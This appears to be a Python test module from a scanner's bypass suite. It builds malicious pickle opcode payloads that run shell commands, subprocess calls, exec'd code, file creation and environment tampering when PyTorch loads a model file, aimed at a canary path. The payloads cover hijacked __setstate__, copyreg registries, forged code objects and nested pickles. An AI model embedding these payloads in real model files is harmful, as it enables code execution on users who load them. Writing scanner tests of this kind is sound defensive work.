"""Objects that do work: when they are built, filled, compared, dropped, or read by torch."""

from __future__ import annotations

import marshal
from collections.abc import Callable
from pathlib import Path

from tests.bad_inputs.bypass.carriers import beside_weights
from tests.bad_inputs.bypass.chains import bound_call, os_system
from tests.bad_inputs.bypass.one import Bypass, Catalogue, Loader, Make, python_of, shell
from tests.bad_inputs.bypass.payloads import namespace, nested
from tests.bad_inputs.opcodes import Opcodes, call, named, push, with_state

__all__ = ["OBJECTS"]

_made = Catalogue(Loader.TORCH)


def _object(name: str, kind: str) -> Callable[[Make], Make]:
    """The function below makes the opcodes of one; they run beside the weights."""

    def add(make: Make) -> Make:
        return _made.add(name, kind)(lambda canary: beside_weights(canary, make(canary)))

    return add


def _class(*bases: Opcodes, **members: Opcodes) -> Opcodes:
    return call(named("builtins", "type"), "Meter", tuple(bases), dict(members))


# -- BUILD, APPEND, ADDITEMS and SETITEM ---------------------------------------------------------


@_object("BUILD gives an object its __setstate__", "BUILD")
def _(canary: Path) -> bytes:
    return with_state(namespace(__setstate__=os_system()), shell(canary))


@_object("APPEND to an object that BUILD gave the method", "BUILD")
def _(canary: Path) -> bytes:
    return Opcodes(namespace(append=os_system()) + push(shell(canary)) + b"a")


@_object("APPENDS to an object that BUILD gave the method", "BUILD")
def _(canary: Path) -> bytes:
    return Opcodes(namespace(append=os_system()) + b"(" + push(shell(canary)) + b"e")


@_object("APPENDS that extends an object", "BUILD")
def _(canary: Path) -> bytes:
    start = call(named("torch", "_import_dotted_name"), "subprocess.call")
    return Opcodes(namespace(extend=start) + b"(" + push("touch") + push(str(canary)) + b"e")


@_object("ADDITEMS to an object that BUILD gave the method", "BUILD")
def _(canary: Path) -> bytes:
    return Opcodes(namespace(add=os_system()) + b"(" + push(shell(canary)) + b"\x90")


@_object("BUILD gives a function another one's code", "BUILD")
def _(canary: Path) -> bytes:
    plain = Opcodes(named("torch.utils.collect_env", "get_platform") + b"q\x07")
    changed = with_state(
        plain, (None, {"__code__": named("torch.utils.collect_env", "run.__code__")})
    )
    return Opcodes(changed + b"0" + call(Opcodes(b"h\x07"), shell(canary)))


@_object("BUILD changes a class of torch that is called then", "BUILD")
def _(canary: Path) -> bytes:
    sampler = Opcodes(named("torch.utils.data.sampler", "SequentialSampler") + b"q\x07")
    changed = with_state(sampler, (None, {"__init__": bound_call(canary)}))
    return Opcodes(changed + b"0" + call(Opcodes(b"h\x07")))


@_object("BUILD changes what a class of torch sets its state with", "BUILD")
def _(canary: Path) -> bytes:
    sampler = Opcodes(named("torch.utils.data.sampler", "SequentialSampler") + b"q\x07")
    changed = with_state(sampler, (None, {"__setstate__": os_system()}))
    return Opcodes(changed + b"0" + with_state(Opcodes(b"h\x07)\x81"), shell(canary)))


@_object("SETITEM into the names of a module", "changes the program")
def _(canary: Path) -> bytes:
    names = named("torch._utils", "__dict__") + push("Meter") + os_system() + b"s0"
    return Opcodes(names + call(named("torch._utils", "Meter"), shell(canary)))


@_object("SETITEM into the extensions of copyreg", "EXT")
def _(canary: Path) -> bytes:
    put = named("copyreg", "_inverted_registry") + push(217) + push(("posix", "system")) + b"s0"
    return Opcodes(put + call(Opcodes(b"\x82\xd9"), shell(canary)))


@_object("SETITEM into the cache of extensions", "EXT")
def _(canary: Path) -> bytes:
    put = named("copyreg", "_extension_cache") + push(70_000) + os_system() + b"s0"
    return Opcodes(put + call(Opcodes(b"\x84\x70\x11\x01\x00"), shell(canary)))


@_object("SETITEM into the environment", "changes the program")
def _(canary: Path) -> bytes:
    hook = named("sys", "breakpointhook")
    put = named("os", "environ") + push("PYTHONBREAKPOINT") + push("os.system") + b"s0"
    return Opcodes(put + call(hook, shell(canary)))


# -- classes made on the spot --------------------------------------------------------------------


@_object("a class whose hash runs", "objects that do work")
def _(canary: Path) -> bytes:
    key = Opcodes(_class(__hash__=bound_call(canary)) + b")\x81")
    return Opcodes(b"}" + key + b"Ns")


@_object("a class whose iterator runs", "objects that do work")
def _(canary: Path) -> bytes:
    made = Opcodes(_class(__iter__=bound_call(canary)) + b")\x81")
    return call(named("builtins", "list"), made)


@_object("a class whose end runs", "objects that do work")
def _(canary: Path) -> bytes:
    return Opcodes(_class(__del__=bound_call(canary)) + b")\x810N")


@_object("a dict of a class whose items open a file", "objects that do work")
def _(canary: Path) -> bytes:
    opener = call(named("torch", "_import_dotted_name"), "os.open")
    made = Opcodes(_class(named("builtins", "dict"), __setitem__=opener) + b")\x81")
    return Opcodes(made + push(str(canary)) + push(0o101) + b"s")


@_object("a class that abc makes, and its making", "objects that do work")
def _(canary: Path) -> bytes:
    return call(call(named("abc", "ABCMeta"), "Meter", (), {"__init__": bound_call(canary)}))


@_object("types.new_class and its callback", "objects that do work")
def _(canary: Path) -> bytes:
    fill = call(named("functools", "partial"), named("builtins", "exec"), python_of(canary))
    return call(named("types", "new_class"), "Meter", (), None, fill)


@_object("copyreg makes an object of a class that opens a file", "copyreg._reconstructor")
def _(canary: Path) -> bytes:
    handler = named("torch.nn.parallel.distributed", "logging.FileHandler")
    return call(named("copyreg", "_reconstructor"), handler, handler, str(canary))


@_object("copyreg makes an object by a method that BUILD gave", "copyreg._reconstructor")
def _(canary: Path) -> bytes:
    make = call(named("torch", "_import_dotted_name"), "os.mkdir")
    base = namespace(__new__=make, __init__=None)
    return call(named("copyreg", "_reconstructor"), str(canary), base, 0o777)


@_object("code that marshal reads, called as a function of torch", "functions made")
def _(canary: Path) -> bytes:
    raw = marshal.dumps(compile(python_of(canary), "x", "exec"))
    code = call(named("jinja2.bccache", "marshal.loads"), raw)
    function = named("torch.fx._symbolic_trace", "FunctionType")
    return call(call(function, code, {"__builtins__": named("builtins", "__dict__")}))


@_object("code that is built of its parts", "functions made")
def _(canary: Path) -> bytes:
    made = compile(python_of(canary), "x", "eval")
    fields = (
        made.co_argcount, made.co_posonlyargcount, made.co_kwonlyargcount, made.co_nlocals,
        made.co_stacksize, made.co_flags, made.co_code, made.co_consts, made.co_names,
        made.co_varnames, made.co_filename, made.co_name, made.co_qualname, made.co_firstlineno,
        made.co_linetable, made.co_exceptiontable, made.co_freevars, made.co_cellvars,
    )  # fmt: skip
    code = call(named("torch._dynamo.utils", "CodeType"), *fields)
    return call(call(named("torch.fx._symbolic_trace", "FunctionType"), code, {}))


@_object("a location whose comparison runs", "persistent ids")
def _(canary: Path) -> bytes:
    profile = call(named("torch", "_import_dotted_name"), "cProfile.run")
    run = call(named("functools", "partial"), profile, python_of(canary))
    location = Opcodes(_class(__eq__=run) + b")\x81")
    storage = named("torch", "FloatStorage")
    return Opcodes(b"(" + push("storage") + storage + push("0") + location + push(24) + b"tQ")


@_object("a pickle in a tensor", "a pickle in a pickle")
def _(canary: Path) -> bytes:
    raw = nested(canary)
    tensor = call(named("torch", "tensor"), list(raw))
    return call(
        named("torch.distributed.distributed_c10d", "_tensor_to_object"),
        call(named("torch", "Tensor.byte"), tensor), len(raw), None,
    )  # fmt: skip


OBJECTS: tuple[Bypass, ...] = tuple(_made.made)
